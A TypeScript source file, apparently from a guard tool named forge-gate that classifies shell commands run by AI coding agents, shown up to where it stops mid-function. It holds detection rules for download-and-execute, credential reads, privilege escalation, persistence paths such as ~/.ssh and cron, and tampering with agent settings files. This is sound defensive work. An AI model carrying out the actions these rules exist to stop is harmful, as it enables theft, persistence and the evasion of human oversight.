import { posix } from "node:path";
import { SHELL_STARTUP_FILES } from "../shell-startup.js";
import {
  type Analysis,
  commandBase,
  DYN,
  isSecretDir,
  isSecretPath,
  type StdinSource,
  show,
  type Val,
} from "./shell.js";

/**
 * What each known command does, given its evaluated argv. Unknown commands are grey: a binary we
 * know nothing about may have any side effect. Each handler records writes (judged later against
 * the lease), hosts, project tooling, nested scripts, or rule hits on the Analysis.
 */

type Handler = (args: Val[], a: Analysis, io: Io) => StdinSource | null | undefined;

interface Io {
  name: string;
  stdin: StdinSource | null;
  /** stdout goes to another command. */
  piped: boolean;
}

/** Unicode look-alike dashes (en/em dash, minus, hyphen variants, fullwidth) used to sneak options past naive checks. */
const DASHES = /^[\u2010-\u2015\u2212\uFE58\uFE63\uFF0D]+/;

/** Normalises a word for option matching: look-alike leading dashes become `-`. */
export function normArg(v: Val): string {
  const m = DASHES.exec(v.s);
  if (!m) return v.s;
  return "-".repeat(Math.min(m[0].length, 2)) + v.s.slice(m[0].length);
}

const lit = (s: string): Val => ({ s, dyn: false, glob: false, secret: 0 });
const dyn = (): Val => ({ s: DYN, dyn: true, glob: false, secret: 0 });

interface Parsed {
  /** Options as written (normalised dashes), with values attached for those that take one. */
  opts: { name: string; value: Val | null }[];
  positional: Val[];
}

/**
 * getopt-style split. `withValue` lists options that consume a value (`-o FILE`, `-oFILE`,
 * `--output FILE`, `--output=FILE`). Parsing stops at `--`, or at the first positional when
 * `stopAtPositional` (for wrappers whose remaining words are a command).
 */
function parseOpts(args: Val[], withValue: string[], stopAtPositional = false): Parsed {
  const opts: Parsed["opts"] = [];
  const positional: Val[] = [];
  for (let i = 0; i < args.length; i++) {
    const raw = args[i]!;
    const s = normArg(raw);
    if (s === "--") {
      positional.push(...args.slice(i + 1));
      break;
    }
    if (s.startsWith("--") && s.length > 2) {
      const eq = s.indexOf("=");
      const name = eq === -1 ? s : s.slice(0, eq);
      if (eq !== -1) opts.push({ name, value: { ...raw, s: s.slice(eq + 1) } });
      else if (withValue.includes(name)) opts.push({ name, value: args[++i] ?? null });
      else opts.push({ name, value: null });
      continue;
    }
    if (s.startsWith("-") && s.length > 1 && !raw.dyn) {
      // Bundled short options: -rf, -oFILE, -n5.
      for (let j = 1; j < s.length; j++) {
        const name = `-${s[j]}`;
        if (withValue.includes(name)) {
          const rest = s.slice(j + 1);
          opts.push({ name, value: rest !== "" ? lit(rest) : (args[++i] ?? null) });
          break;
        }
        opts.push({ name, value: null });
      }
      continue;
    }
    if (stopAtPositional) {
      positional.push(...args.slice(i));
      break;
    }
    positional.push(raw);
  }
  return { opts, positional };
}

const has = (p: Parsed, ...names: string[]) => p.opts.some((o) => names.includes(o.name));
const optValue = (p: Parsed, ...names: string[]) => p.opts.find((o) => names.includes(o.name))?.value ?? null;
const optValues = (p: Parsed, ...names: string[]) =>
  p.opts.filter((o) => names.includes(o.name) && o.value).map((o) => o.value!);

// ---------------------------------------------------------------------------------------------
// Pure readers: no side effects whatever their arguments (output redirections are judged separately).

const READERS = new Set(
  (
    "ls ll la dir vdir cat bat batcat head tail less more most wc grep egrep fgrep rg ag ack tree stat file du df pwd " +
    "echo printf which whereis type realpath readlink basename dirname date uname whoami id groups hostname " +
    "diff diff3 cmp comm cut tr nl column paste join fold fmt tac rev expand unexpand base64 base32 basenc md5sum sha1sum sha224sum " +
    "sha256sum sha384sum sha512sum shasum cksum b2sum sum true false test [ [[ seq sleep nproc free uptime ps pgrep pidof " +
    "jobs lsof ldd nm objdump readelf strings hexdump od man help info expr locale getconf lscpu lsblk lsusb lspci " +
    "printenv tput clear cal bc dc jq gron zcat zless zmore gzcat bzcat xzcat zstdcat lz4cat look apropos whatis getent " +
    "netstat ss dig nslookup host ping arch users who w last finger tty stty logname env-check history alias " +
    "wait exit return : break continue shift let unalias hash times umask ulimit shopt set trap-list " +
    "vmstat iostat mpstat top htop pstree watchman-list file-type numfmt factor tsort sort-check " +
    "locate mdfind whence compgen complete dirs fc bind caller enable disown suspend logout true-color " +
    "cowsay figlet lolcat toilet yes reset mktemp uuidgen shuf envsubst pbcopy pbpaste fg bg iconv sw_vers lsb_release"
  ).split(/\s+/),
);

/** `--version`/`--help` on any PATH command only prints. */
function isInfoQuery(args: Val[]): boolean {
  return args.length === 1 && /^(--version|-version|--help|-V)$/.test(normArg(args[0]!));
}

// ---------------------------------------------------------------------------------------------
// Project tooling: runs the project's own build/test code in the working directory and writes below it.

const PROJECT_TOOLS = new Set(
  (
    "tsc tsx ts-node eslint prettier biome jest vitest mocha ava tap c8 nyc pytest py.test tox nox mypy pyright ruff black isort " +
    "flake8 pylint bandit coverage rspec rake rubocop phpunit phpstan psalm mvn gradle gradlew ant sbt lein " +
    "cmake ninja meson bazel bazelisk buck2 nx turbo lerna vite webpack rollup esbuild parcel next nuxt astro " +
    "svelte-kit vue-cli-service ng storybook playwright cypress gcc g++ cc c++ clang clang++ rustc rustfmt gofmt " +
    "javac kotlinc scalac swiftc ghc cabal stack dune zig elixir mix iex erl erlc rebar3 dart flutter " +
    "ctest cargo-nextest golangci-lint staticcheck shellcheck shfmt hadolint markdownlint stylelint htmlhint " +
    "autoreconf autoconf automake ./configure configure pre-commit husky lint-staged knip depcheck madge typedoc " +
    "jsdoc sphinx-build mkdocs hugo jekyll vitepress docusaurus tsup unbuild babel swc terser uglifyjs postcss sass " +
    "tailwindcss lessc graphql-codegen prisma drizzle-kit protoc buf sqlc wasm-pack trunk maturin hatch flit twine-check " +
    "doctest pdoc pydoc behave cucumber karma nodemon concurrently wireit just task invoke fab rails xcodebuild xcrun pod carthage"
  ).split(/\s+/),
);

/** Interpreters: `X file` runs a script, `X -c/-e code` runs inline code, `X` alone reads code from stdin. */
const INTERPRETERS: Record<string, { inline: string[]; module?: string; valueOpts: string[] }> = {
  python: { inline: ["-c"], module: "-m", valueOpts: ["-W", "-X"] },
  python3: { inline: ["-c"], module: "-m", valueOpts: ["-W", "-X"] },
  python2: { inline: ["-c"], module: "-m", valueOpts: ["-W", "-X"] },
  pypy3: { inline: ["-c"], module: "-m", valueOpts: ["-W", "-X"] },
  node: {
    inline: ["-e", "--eval", "-p", "--print"],
    valueOpts: ["-r", "--require", "--import", "--loader", "--env-file"],
  },
  nodejs: { inline: ["-e", "--eval", "-p", "--print"], valueOpts: ["-r", "--require"] },
  deno: { inline: ["eval"], valueOpts: [] },
  bun: { inline: ["-e", "--eval", "-p", "--print"], valueOpts: [] },
  ruby: { inline: ["-e"], valueOpts: ["-r", "-I"] },
  perl: { inline: ["-e", "-E"], valueOpts: ["-M", "-I"] },
  php: { inline: ["-r"], valueOpts: ["-d", "-c"] },
  lua: { inline: ["-e"], valueOpts: ["-l"] },
  Rscript: { inline: ["-e"], valueOpts: [] },
  julia: { inline: ["-e"], valueOpts: [] },
  osascript: { inline: ["-e"], valueOpts: [] },
};

const PRIVILEGED = new Set(["sudo", "doas", "su", "pkexec", "run0"]);

const SHELLS = new Set(["sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "fish", "busybox-sh"]);

/**
 * Inline code in another language cannot be parsed here; it is auto-approved only when it names
 * none of the APIs that write files, run processes or open connections. Anything else is grey.
 */
const INLINE_SIDE_EFFECTS =
  /\b(open\s*\([^)]*['"][wax+]|write|unlink|remove|rmtree|rmdir|mkdir|rename|replace|chmod|chown|truncate|system|popen|subprocess|spawn|exec|eval|fork|kill|socket|connect|urlopen|urllib|requests|http|fetch|axios|curl|fs\.|child_process|shutil|os\.(?!path|environ\.get|getcwd|listdir|sep|getenv|name|walk|scandir|cpu_count)|Deno\.(?!args|env\.get|cwd)|File\.(write|delete|open)|FileUtils|IO\.popen|`|\$\(|__import__|importlib|compile|pickle|marshal|ctypes|setattr|getattr|globals|__builtins__|import\s+os\s+as|from\s+os\s+import|passthru|shell_exec|proc_open|pcntl_exec|do\s+shell\s+script|(?:send|post|put|delete|patch|upload)(?![a-z])|smtplib|ftplib|paramiko|boto3|sqlite3|psycopg|pymysql|redis|sudo|require\s*\(\s*['"](fs|child_process|net|http|https|dgram|cluster|worker_threads)['"])/i;

export function inlineCode(code: Val, a: Analysis, via: string): void {
  a.fx.readOnly = false;
  if (code.net) {
    a.block("download_exec", `${via} runs downloaded code`);
    return;
  }
  if (code.dyn) {
    a.grey("inline_code", `${via} runs code that cannot be known before it runs`);
    return;
  }
  if (/curl|wget|https?:\/\//i.test(code.s) && /\|\s*(ba|z|da)?sh\b|exec|eval|system/i.test(code.s)) {
    a.block("download_exec", `${via} runs inline code that downloads and executes`);
    return;
  }
  if (INLINE_SIDE_EFFECTS.test(code.s)) {
    a.grey("inline_code", `${via} runs inline code that may write files, run processes or use the network`);
  }
}

// ---------------------------------------------------------------------------------------------
// Path rules that hold regardless of the lease.

export interface SensitiveHit {
  rule: "persistence" | "self_modification";
  what: string;
}

/** Writing here plants persistence or modifies the agent's own guardrails. */
export function sensitiveWrite(abs: string, home: string): SensitiveHit | null {
  const p = posix.normalize(abs);
  const inHome = (rel: string) => p === `${home}/${rel}` || p.startsWith(`${home}/${rel}/`);
  if (/\/\.git\/hooks(\/|$)/.test(p)) return { rule: "persistence", what: "a git hook" };
  if (
    /^\/etc\/(cron|anacron|systemd|init\.d|rc\.local|profile|bash\.bashrc|environment|ld\.so\.preload|sudoers)/.test(
      p,
    )
  )
    return { rule: "persistence", what: "system start-up or scheduling configuration" };
  if (/^\/(var\/spool\/cron|Library\/Launch(Agents|Daemons)|usr\/lib\/systemd)/.test(p))
    return { rule: "persistence", what: "a scheduled or start-up service" };
  for (const rc of SHELL_STARTUP_FILES) {
    if (p === `${home}/${rc}`) return { rule: "persistence", what: `the shell start-up file ~/${rc}` };
  }
  if (inHome(".ssh")) return { rule: "persistence", what: "~/.ssh (keys, authorized_keys, config)" };
  if (inHome(".config/systemd") || inHome("Library/LaunchAgents") || inHome(".config/autostart"))
    return { rule: "persistence", what: "a user service or autostart entry" };
  if (inHome(".config/fish")) return { rule: "persistence", what: "the fish shell configuration" };
  if (p === `${home}/.gitconfig` || inHome(".config/git"))
    return { rule: "persistence", what: "the global git configuration" };
  if (inHome(".claude") || /\/\.claude\/(settings(\.local)?\.json|hooks)(\/|$)/.test(p))
    return { rule: "self_modification", what: "Claude Code settings or hooks" };
  if (inHome(".codex") || /\/\.codex\/(hooks\.json|config\.toml)$/.test(p))
    return { rule: "self_modification", what: "Codex configuration or hooks" };
  if (
    inHome(".config/opencode") ||
    /\/\.opencode\/(plugins?|opencode\.jsonc?)(\/|$)/.test(p) ||
    /\/opencode\.jsonc?$/.test(p)
  )
    return { rule: "self_modification", what: "opencode configuration or plugins" };
  if (inHome(".config/forge-gate") || inHome(".local/state/forge-gate") || /\/\.forge-gate(\/|$)/.test(p))
    return { rule: "self_modification", what: "forge-gate's own configuration or state" };
  return null;
}

// ---------------------------------------------------------------------------------------------
// The dispatcher.

/** Analyses one simple command. Returns what it prints to stdout, when that matters downstream. */
export function runCommand(
  argv: Val[],
  a: Analysis,
  stdin: StdinSource | null,
  piped: boolean,
): StdinSource | null {
  const head = argv[0]!;
  a.fx.commands.push(argv.map((v) => v.s.replaceAll(DYN, "…")).join(" "));
  if (head.dyn) {
    a.grey("dynamic_command", `the command name \`${show(head)}\` cannot be known before it runs`);
    return null;
  }
  let name = head.s;
  if (name === "") return null;
  if (name.includes("/")) {
    const base = commandBase(name);
    if (/^\/(usr\/(local\/)?)?s?bin\/[^/]+$/.test(name) || /^\/opt\/homebrew\/bin\/[^/]+$/.test(name))
      name = base;
    else if (base === "gradlew" || base === "mvnw" || base === "configure") {
      a.script(head, `\`${name}\``);
      a.project(`\`${name}\``);
      return null;
    } else {
      a.script(head, `\`${name}\``);
      return null;
    }
  }
  const args = argv.slice(1);
  const io: Io = { name, stdin, piped };
  if (a.functions.has(name)) return null; // its body was analysed where it was defined
  if (isInfoQuery(args) && !PRIVILEGED.has(name)) return null;
  // Any other program handed a credential file or directory (tar, zip, rsync, cp, an uploader…)
  // reads it into something the agent controls.
  if (
    !READERS.has(name) &&
    !CREDENTIAL_NEUTRAL.has(name) &&
    args.some(
      (v) =>
        !v.dyn && (isSecretDir(v.s, a.ctx.home) || (v.s.startsWith("/") && isSecretPath(v.s, a.ctx.home))),
    )
  )
    a.grey("secret_read", `\`${name}\` reads a credential file or directory`);
  const handler = HANDLERS[name];
  if (handler) return handler(args, a, io) ?? null;
  if (READERS.has(name)) return name === "cat" && args.length === 0 ? stdin : readerOutput(name, args, a);
  if (isInfoQuery(args)) return null;
  if (PROJECT_TOOLS.has(name)) {
    projectTool(name, args, a);
    return null;
  }
  if (/^mkfs(\.|$)|^(fdisk|sfdisk|cfdisk|parted|wipefs|sgdisk|gdisk|mkswap|blkdiscard|hdparm)$/.test(name)) {
    a.block("disk_write", `\`${name}\` rewrites disks or partitions`);
    return null;
  }
  if (/^(shutdown|reboot|halt|poweroff)$/.test(name)) {
    a.block("system_power", `\`${name}\` stops the machine`);
    return null;
  }
  a.grey("unknown_command", `\`${name}\` is not a command forge-gate knows to be safe`);
  return null;
}

/** Commands that name a credential path without reading its content into anything. */
const CREDENTIAL_NEUTRAL = new Set(
  "source . test [ [[ chmod chown chgrp rm touch mkdir ssh ssh-add ssh-keygen git echo printf export unset cd pushd".split(
    " ",
  ),
);

/**
 * What echo/printf print, when it is certain: printf decodes backslash escapes in its format and
 * substitutes plain `%s` directives; `echo -e` decodes escapes. Anything less certain (other
 * directives, `-v`, an escape that shells treat differently) is null, i.e. unknown text.
 */
function printedText(name: string, args: Val[], texts: Val[]): string | null {
  const decode = (t: string) =>
    t.replace(/\\(x[0-9A-Fa-f]{1,2}|0[0-7]{0,3}|[abefnrtv\\'"])/g, (_m, e: string) => {
      if (e[0] === "x") return String.fromCharCode(Number.parseInt(e.slice(1), 16));
      if (e[0] === "0") return String.fromCharCode(Number.parseInt(e, 8) || 0);
      const map: Record<string, string> = {
        a: "\x07",
        b: "\b",
        e: "\x1b",
        f: "\f",
        n: "\n",
        r: "\r",
        t: "\t",
        v: "\v",
      };
      return map[e] ?? e;
    });
  if (name === "echo") {
    const joined = texts.map((v) => v.s).join(" ");
    if (args.some((v) => /^-[nE]*e[neE]*$/.test(v.s))) return decode(joined);
    return joined.includes("\\") ? null : joined;
  }
  if (texts[0]?.s === "-v" || texts[0]?.s.startsWith("-")) return null;
  const [fmt, ...rest] = texts.map((v) => v.s);
  if (fmt === undefined) return "";
  const directives = fmt.replaceAll("%%", "").match(/%[^%]/g) ?? [];
  if (directives.some((d) => d !== "%s") || rest.length > Math.max(directives.length, 0)) return null;
  let k = 0;
  return decode(fmt.replace(/%%|%s/g, (d) => (d === "%%" ? "%" : (rest[k++] ?? ""))));
}

function readerOutput(name: string, args: Val[], a: Analysis): StdinSource | null {
  const secret =
    ((name === "printenv" || name === "env") && args.length === 0) ||
    args.some((v) => !v.dyn && isSecretPath(v.s, a.ctx.home));
  if (
    secret &&
    (name === "cat" ||
      name === "head" ||
      name === "tail" ||
      name === "less" ||
      name === "more" ||
      name === "base64" ||
      name === "xxd" ||
      name === "bat")
  ) {
    a.grey("secret_read", `\`${name}\` prints a credential file into the transcript`);
  }
  if (name === "echo" || name === "printf") {
    const texts = args.filter((v) => !(name === "echo" && /^-[neE]+$/.test(v.s)));
    const anyDyn = texts.some((v) => v.dyn);
    return {
      text: anyDyn ? null : printedText(name, args, texts),
      network: false,
      secret: texts.some((v) => v.secret === 2),
      via: `\`${name}\``,
    };
  }
  return { text: null, network: false, secret, via: `\`${name}\`` };
}

function projectTool(name: string, args: Val[], a: Analysis): void {
  const p = parseOpts(args, [
    "-o",
    "--outDir",
    "--outdir",
    "--out-dir",
    "--outfile",
    "-C",
    "--prefix",
    "-d",
    "--dist-dir",
  ]);
  const out = optValues(p, "-o", "--outDir", "--outdir", "--out-dir", "--outfile", "--dist-dir");
  for (const o of out) if (o.s !== "-") a.write(o, "write", `\`${name}\` output`);
  if (INLINE_RUNNERS.has(name) && inlineRunner(name, args, a)) return;
  if (name === "playwright" && p.positional[0]?.s === "install") {
    a.grey("install_global", "`playwright install` downloads browsers outside the project");
    return;
  }
  a.project(`\`${name}\``);
}

const H: Record<string, Handler> = {};
const HANDLERS = H;

// --- shell built-ins that change state -------------------------------------------------------

H.cd = (args, a) => {
  const p = parseOpts(args, []);
  const target = p.positional[0];
  const next: (string | null)[] = [];
  for (const c of a.cwds) {
    if (!target) next.push(a.ctx.home);
    else if (target.dyn || target.s === "-") next.push(null);
    else if (target.s.startsWith("/")) next.push(posix.normalize(target.s));
    else next.push(c === null ? null : posix.resolve(c, target.s));
  }
  // Union with the previous possibilities: cd may or may not have run (`[ x ] && cd /etc`).
  for (const n of next) if (!a.cwds.includes(n)) a.cwds.push(n);
  if (a.cwds.length > 8) a.cwds = [null];
  return null;
};
H.pushd = H.cd;
H.popd = (_args, a) => {
  a.cwds.push(null);
  return null;
};

H.source = (args, a, io) => {
  const p = parseOpts(args, []);
  const file = p.positional[0];
  if (!file) return null;
  if (file.net) {
    a.block("download_exec", `\`${io.name}\` runs downloaded code`);
    return null;
  }
  if (!file.dyn && /^\/dev\/stdin$|^\/proc\/self\/fd\/0$/.test(file.s))
    return shellFromStdin(a, io, `\`${io.name}\``);
  a.script(file, `\`${io.name}\``);
  return null;
};
H["."] = H.source;

H.eval = (args, a) => {
  const code = args.map((v) => v.s).join(" ");
  if (args.some((v) => v.net)) {
    a.block("download_exec", "`eval` runs downloaded code");
    return null;
  }
  if (args.some((v) => v.dyn)) {
    a.grey("dynamic_eval", "`eval` runs code that cannot be known before it runs");
    return null;
  }
  a.nested(code, "`eval`");
  return null;
};

H.trap = (args, a) => {
  if (args.length >= 2 && !args[0]!.s.startsWith("-")) {
    if (args[0]!.dyn) a.grey("dynamic_eval", "`trap` installs code that cannot be known before it runs");
    else a.nested(args[0]!.s, "`trap`");
  }
  return null;
};

H.exec = (args, a, io) => {
  const p = parseOpts(args, ["-a"], true);
  if (p.positional.length === 0) return null; // `exec >file` only redirects
  return runCommand(p.positional, a, io.stdin, io.piped);
};

H.export = () => null;
H.readonly = () => null;
H.local = () => null;
H.declare = () => null;
H.typeset = () => null;
H.unset = () => null;
H.read = () => null;
H.mapfile = () => null;
H.readarray = () => null;
H.getopts = () => null;

H.kill = (args, a) => {
  if (args.some((v) => v.s === "-1" || v.s === "0") && args.length >= 2) {
    a.block("kill_all", "`kill` targeting -1/0 kills every process of the user");
  }
  // PID 1 is init (or the container's entrypoint): killing it takes the whole machine or container down.
  if (args.some((v, i) => normArg(v) === "1" && !/^-(s|n|-signal)$/.test(normArg(args[i - 1] ?? lit(""))))) {
    a.block("kill_all", "`kill 1` kills init, taking the machine or container down");
  }
  a.fx.readOnly = false;
  return null;
};
H.pkill = (_args, a, io) => {
  a.grey("process_kill", `\`${io.name}\` kills processes by name`);
  return null;
};
H.killall = H.pkill;

// --- wrappers: analyse the wrapped command -----------------------------------------------------

function wrapper(valueOpts: string[], skipPositional = 0): Handler {
  return (args, a, io) => {
    const p = parseOpts(args, valueOpts, true);
    const rest = p.positional.slice(skipPositional);
    if (rest.length === 0) return null;
    return runCommand(rest, a, io.stdin, io.piped);
  };
}

H.nice = wrapper(["-n", "--adjustment"]);
H.nohup = wrapper([]);
H.setsid = wrapper([]);
H.time = wrapper(["-f", "-o", "--format", "--output"]);
H.builtin = wrapper([]);
H.unbuffer = wrapper([]);
H.caffeinate = wrapper(["-t", "-w"]);
H.stdbuf = wrapper(["-i", "-o", "-e", "--input", "--output", "--error"]);
H.ionice = wrapper(["-c", "-n", "-p", "-P", "-u", "--class", "--classdata"]);
H.timeout = wrapper(["-s", "-k", "--signal", "--kill-after"], 1);
H.gtimeout = H.timeout;
H.taskset = (args, a, io) => {
  const p = parseOpts(args, ["-c", "--cpu-list"], true);
  const rest = has(p, "-c", "--cpu-list") ? p.positional : p.positional.slice(1);
  return rest.length ? runCommand(rest, a, io.stdin, io.piped) : null;
};
H.chrt = wrapper([], 1);
H.strace = wrapper(["-o", "-e", "-p", "-s", "-u"]);
H.ltrace = H.strace;
H["xvfb-run"] = wrapper(["-s", "-n", "-f", "-e"]);
H.dbus_run = wrapper([]);

H.command = (args, a, io) => {
  const p = parseOpts(args, [], true);
  if (has(p, "-v", "-V")) return null;
  return p.positional.length ? runCommand(p.positional, a, io.stdin, io.piped) : null;
};

H.env = (args, a, io) => {
  const rest: Val[] = [];
  let i = 0;
  for (; i < args.length; i++) {
    const s = normArg(args[i]!);
    if (s === "-i" || s === "-0" || s === "--ignore-environment" || s === "--null" || s === "-") continue;
    if (s === "-u" || s === "--unset") {
      i++;
      continue;
    }
    if (s.startsWith("--unset=") || /^-u./.test(s)) continue;
    if (s === "-C" || s === "--chdir" || s.startsWith("--chdir=")) {
      const dir = s.startsWith("--chdir=") ? lit(s.slice(8)) : args[++i];
      if (dir) H.cd!([dir], a, io);
      continue;
    }
    if (s === "-S" || s === "--split-string" || s.startsWith("--split-string=")) {
      const str = s.startsWith("--split-string=") ? lit(s.slice(15)) : args[++i];
      const tail = args.slice(i + 1);
      if (!str || str.dyn || tail.some((t) => t.dyn)) {
        a.grey("dynamic_command", "`env -S` runs a command that cannot be known before it runs");
        return null;
      }
      a.nested([str.s, ...tail.map((t) => quoteForShell(t.s))].join(" "), "`env -S`");
      return null;
    }
    if (/^[A-Za-z_][A-Za-z0-9_]*=/.test(s)) continue;
    rest.push(...args.slice(i));
    break;
  }
  if (rest.length === 0) return { text: null, network: false, secret: true, via: "`env`" };
  return runCommand(rest, a, io.stdin, io.piped);
};

function privilege(_args: Val[], a: Analysis, io: Io): null {
  a.block("privilege", `\`${io.name}\` runs a command with elevated privileges`);
  return null;
}
H.sudo = privilege;
H.doas = privilege;
H.su = privilege;
H.pkexec = privilege;
H.run0 = privilege;

H.flock = (args, a, io) => {
  const p = parseOpts(args, ["-w", "--timeout", "-E", "--conflict-exit-code", "-c", "--command"], true);
  const cmd = optValue(p, "-c", "--command");
  if (cmd) {
    if (cmd.dyn) a.grey("dynamic_command", "`flock -c` runs a command that cannot be known before it runs");
    else a.nested(cmd.s, "`flock -c`");
    return null;
  }
  const rest = p.positional.slice(1);
  return rest.length ? runCommand(rest, a, io.stdin, io.piped) : null;
};

H.watch = (args, a) => {
  const p = parseOpts(args, ["-n", "--interval", "-d", "--differences"], true);
  if (p.positional.some((v) => v.dyn)) {
    a.grey("dynamic_command", "`watch` runs a command that cannot be known before it runs");
    return null;
  }
  a.nested(p.positional.map((v) => v.s).join(" "), "`watch`");
  return null;
};

H.xargs = (args, a, io) => {
  const p = parseOpts(
    args,
    [
      "-I",
      "-i",
      "-L",
      "-l",
      "-n",
      "-P",
      "-s",
      "-d",
      "-E",
      "-e",
      "-a",
      "--max-args",
      "--max-procs",
      "--delimiter",
      "--arg-file",
      "--replace",
      "--max-lines",
      "--eof",
    ],
    true,
  );
  const argFile = optValue(p, "-a", "--arg-file");
  const cmd = p.positional.length ? p.positional : [lit("echo")];
  const replace = optValue(p, "-I", "--replace", "-i");
  // The command's remaining arguments come from stdin: unknown.
  const input =
    io.stdin?.text != null && !io.stdin.text.includes(DYN) && !argFile
      ? io.stdin.text.trim().split(/\s+/).filter(Boolean).map(lit)
      : null;
  const fill = (items: Val[]): Val[] =>
    replace
      ? cmd.map((w) => (w.s.includes(replace.s) ? { ...w, s: w.s.replaceAll(replace.s, DYN), dyn: true } : w))
      : [...cmd, ...items];
  return runCommand(fill(input ?? [dyn()]), a, null, io.piped);
};

H.parallel = (args, a) => {
  const cut = args.findIndex((v) => v.s.startsWith(":::"));
  const template = (cut === -1 ? args : args.slice(0, cut)).filter(
    (v) => !normArg(v).startsWith("-") || v.s.includes(" "),
  );
  if (template.length === 0 || template.some((v) => v.dyn)) {
    a.grey("dynamic_command", "`parallel` runs commands that cannot be known before they run");
    return null;
  }
  const script = template
    .map((v) => v.s)
    .join(" ")
    .replaceAll("{}", '"$__forge_gate_item"');
  a.nested(template.some((v) => /\{\}/.test(v.s)) ? script : `${script} "$__forge_gate_item"`, "`parallel`");
  return null;
};

// --- shells and interpreters ------------------------------------------------------------------

function shellFromStdin(a: Analysis, io: Io, via: string): null {
  const src = io.stdin;
  if (!src) {
    a.grey("shell_stdin", `${via} reads commands from standard input`);
    return null;
  }
  if (src.network) {
    a.block("download_exec", `${src.via} output is piped into ${via}: download-and-execute`);
    return null;
  }
  if (src.text === null || src.text.includes(DYN)) {
    a.grey(
      "shell_stdin",
      `${via} runs commands produced by ${src.via}, which cannot be known before it runs`,
    );
    return null;
  }
  a.nested(src.text, `${via} (fed by ${src.via})`);
  return null;
}

function shellHandler(args: Val[], a: Analysis, io: Io): StdinSource | null {
  const via = `\`${io.name}\``;
  let i = 0;
  let command: Val | null = null;
  for (; i < args.length; i++) {
    const s = normArg(args[i]!);
    if (s === "-o" || s === "+o" || s === "-O" || s === "+O" || s === "--rcfile" || s === "--init-file") {
      i++;
      continue;
    }
    if (/^-[a-zA-Z]*c[a-zA-Z]*$/.test(s)) {
      command = args[i + 1] ?? null;
      break;
    }
    if (s === "-s" || s === "--") continue;
    if (s.startsWith("-") || s.startsWith("+")) continue;
    break;
  }
  if (command) {
    if (command.dyn) {
      if (command.net) a.block("download_exec", `${via} -c runs code downloaded by a command substitution`);
      else a.grey("dynamic_command", `${via} -c runs a command that cannot be known before it runs`);
      return null;
    }
    a.nested(command.s, `${via} -c`);
    return null;
  }
  const script = args[i];
  if (script?.net) {
    a.block("download_exec", `${via} runs a script downloaded by a process substitution`);
    return null;
  }
  if (script && !/^-s?$/.test(normArg(script))) {
    if (script.dyn && io.stdin === null)
      a.grey("dynamic_script", `${via} runs a script that cannot be known before it runs`);
    else if (script.dyn) return shellFromStdin(a, io, via);
    else if (/^\/dev\/(stdin|fd\/0)$/.test(script.s)) return shellFromStdin(a, io, via);
    else if (/^\/dev\/fd\/\d+$|^\/proc\//.test(script.s))
      a.grey("dynamic_script", `${via} runs code from a file descriptor`);
    else a.script(script, via);
    return null;
  }
  return shellFromStdin(a, io, via);
}
for (const sh of SHELLS) H[sh] = shellHandler;

function interpreterHandler(args: Val[], a: Analysis, io: Io): StdinSource | null {
  const spec = INTERPRETERS[io.name]!;
  const via = `\`${io.name}\``;
  for (let i = 0; i < args.length; i++) {
    const s = normArg(args[i]!);
    if (spec.inline.includes(s)) {
      inlineCode(args[i + 1] ?? dyn(), a, `${via} ${s}`);
      if (io.name === "perl" && args.some((v) => /^-[a-zA-Z]*i/.test(normArg(v)))) {
        for (const f of args.slice(i + 2)) if (!normArg(f).startsWith("-")) a.write(f, "write", `${via} -i`);
      }
      return null;
    }
    if (spec.module && (s === spec.module || (s.startsWith(spec.module) && s.length > 2))) {
      const mod = s === spec.module ? (args[i + 1]?.s ?? "") : s.slice(2);
      return pythonModule(mod, args.slice(s === spec.module ? i + 2 : i + 1), a, io);
    }
    if (spec.valueOpts.includes(s)) {
      i++;
      continue;
    }
    if (s.startsWith("-")) continue;
    if (io.name === "deno" || io.name === "bun") return denoBun(args.slice(i), a, io);
    if (args[i]!.net) a.block("download_exec", `${via} runs a script downloaded by a process substitution`);
    else a.script(args[i]!, via);
    return null;
  }
  // `node --test` runs the project's test files (and `node --run x` a package.json script): no stdin code.
  if (
    (io.name === "node" || io.name === "nodejs") &&
    args.some((v) => /^--(test|run)(=|$)/.test(normArg(v)))
  ) {
    a.project(via);
    return null;
  }
  // No script: code comes from stdin.
  const src = io.stdin;
  if (src?.network) {
    a.block("download_exec", `${src.via} output is piped into ${via}: download-and-execute`);
    return null;
  }
  if (src?.text != null) inlineCode(lit(src.text), a, via);
  else if (src) a.grey("inline_code", `${via} runs code produced by ${src.via}`);
  else a.grey("inline_code", `${via} reads code from standard input`);
  return null;
}
for (const k of Object.keys(INTERPRETERS)) H[k] = interpreterHandler;

function pythonModule(mod: string, rest: Val[], a: Analysis, io: Io): StdinSource | null {
  if (mod === "pip") return H.pip!(rest, a, { ...io, name: "pip" }) ?? null;
  if (mod === "venv" || mod === "virtualenv") {
    const p = parseOpts(rest, ["--prompt"]);
    for (const d of p.positional) a.write(d, "write", `\`${io.name} -m ${mod}\``);
    return null;
  }
  if (mod === "json.tool" || mod === "pydoc" || mod === "site" || mod === "platform" || mod === "sysconfig")
    return null;
  if (mod === "http.server") {
    // It serves a directory to the network: the one it serves must be inside the lease.
    const p = parseOpts(rest, ["-d", "--directory", "-b", "--bind", "--protocol"]);
    const dir = optValues(p, "-d", "--directory")[0];
    a.project(`\`${io.name} -m http.server\``, dir);
    return null;
  }
  a.project(`\`${io.name} -m ${mod}\``);
  return null;
}

function denoBun(args: Val[], a: Analysis, io: Io): StdinSource | null {
  const sub = args[0]?.s ?? "";
  // `bun run --eval CODE`, `deno run --eval`: inline code wherever the flag sits.
  const ev = args.findIndex((v) => /^(-e|--eval|-p|--print)$/.test(normArg(v)));
  if (ev !== -1) {
    inlineCode(args[ev + 1] ?? dyn(), a, `\`${io.name}\` ${normArg(args[ev]!)}`);
    return null;
  }
  if (
    /^(test|fmt|lint|check|task|run|build|bundle|compile|doc|bench|install|add|remove|x|info|types|init|create|pm|outdated|update|upgrade)$/.test(
      sub,
    )
  ) {
    if (sub === "upgrade" || (sub === "install" && args.some((v) => /^(-g|--global)$/.test(v.s)))) {
      a.grey("install_global", `\`${io.name} ${sub}\` installs outside the project`);
      return null;
    }
    if (sub === "x") return npx(args.slice(1), a, io);
    a.project(`\`${io.name} ${sub}\``);
    return null;
  }
  if (sub.endsWith(".ts") || sub.endsWith(".js") || sub.endsWith(".mjs") || sub.endsWith(".tsx")) {
    a.script(args[0]!, `\`${io.name}\``);
    return null;
  }
  a.project(`\`${io.name} ${sub}\``);
  return null;
}

// --- file writers -----------------------------------------------------------------------------

H.tee = (args, a, io) => {
